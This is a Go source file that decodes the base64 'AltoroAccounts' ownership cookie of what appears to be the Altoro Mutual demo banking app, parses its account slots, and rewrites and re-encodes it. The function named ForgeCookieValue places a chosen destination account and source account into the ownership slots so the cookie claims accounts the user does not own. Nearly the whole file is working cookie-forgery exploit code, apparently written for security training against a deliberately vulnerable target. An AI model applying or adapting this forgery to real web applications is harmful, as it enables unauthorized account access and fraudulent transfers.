package domain

import (
	"encoding/base64"
	"fmt"
	"strings"
)

const (
	DefaultAccountCookieName = "AltoroAccounts"
	CookieAttributeSuffix    = "; Path=/;"

	entrySeparator  = "~"
	markerSeparator = "|"
	minSegments     = 5
)

// AccountEntry is one account slot of the ownership cookie.
// BalanceMarker is relocated byte for byte and never read as a number.
type AccountEntry struct {
	AccountNumber string
	AccountType   string
	BalanceMarker string
}

type AccountCookieRecord struct {
	Primary   AccountEntry
	Secondary AccountEntry
	// Segments is the number of "~" separated segments in the decoded payload.
	Segments int
}

// DecodeCookieValue strips quotes and any attribute suffix, then base64-decodes.
func DecodeCookieValue(raw string) (string, error) {
	value := strings.ReplaceAll(raw, `"`, "")
	if i := strings.Index(value, ";"); i >= 0 {
		value = value[:i]
	}
	value = strings.TrimSpace(value)

	data, err := base64.StdEncoding.DecodeString(value)
	if err != nil {
		return "", fmt.Errorf("%w: %v", ErrMalformedCookieEncoding, err)
	}

	return string(data), nil
}

// EncodeCookieValue base64-encodes plaintext and appends the attribute suffix the
// server expects on re-submission.
func EncodeCookieValue(plaintext string) string {
	return base64.StdEncoding.EncodeToString([]byte(plaintext)) + CookieAttributeSuffix
}

// ParseAccountCookie reads the two leading account slots of a decoded payload such as
// "800000~Corporate~-6.679E27|800001~Checking~6.679E27|".
func ParseAccountCookie(plaintext string) (AccountCookieRecord, error) {
	segments := strings.Split(plaintext, entrySeparator)
	if len(segments) < minSegments {
		return AccountCookieRecord{}, fmt.Errorf("%w: %d segments, need at least %d", ErrUnexpectedCookieShape, len(segments), minSegments)
	}

	middle := strings.Split(segments[2], markerSeparator)
	secondaryNumber := ""
	if len(middle) > 1 {
		secondaryNumber = middle[1]
	}

	return AccountCookieRecord{
		Primary: AccountEntry{
			AccountNumber: segments[0],
			AccountType:   segments[1],
			BalanceMarker: middle[0],
		},
		Secondary: AccountEntry{
			AccountNumber: secondaryNumber,
			AccountType:   segments[3],
			BalanceMarker: segments[4],
		},
		Segments: len(segments),
	}, nil
}

// TransformAccountCookie puts the destination account in the first ownership slot and
// the source account in the second, keeping both balance markers where they were.
func TransformAccountCookie(record AccountCookieRecord, to AccountRef, from AccountRef) string {
	return to.Number + entrySeparator + to.Type + entrySeparator + record.Primary.BalanceMarker +
		markerSeparator +
		from.Number + entrySeparator + from.Type + entrySeparator + record.Secondary.BalanceMarker
}

// ForgeCookieValue runs decode, parse, transform and encode in one step.
func ForgeCookieValue(raw string, to AccountRef, from AccountRef) (string, error) {
	plaintext, err := DecodeCookieValue(raw)
	if err != nil {
		return "", err
	}

	record, err := ParseAccountCookie(plaintext)
	if err != nil {
		return "", err
	}

	return EncodeCookieValue(TransformAccountCookie(record, to, from)), nil
}
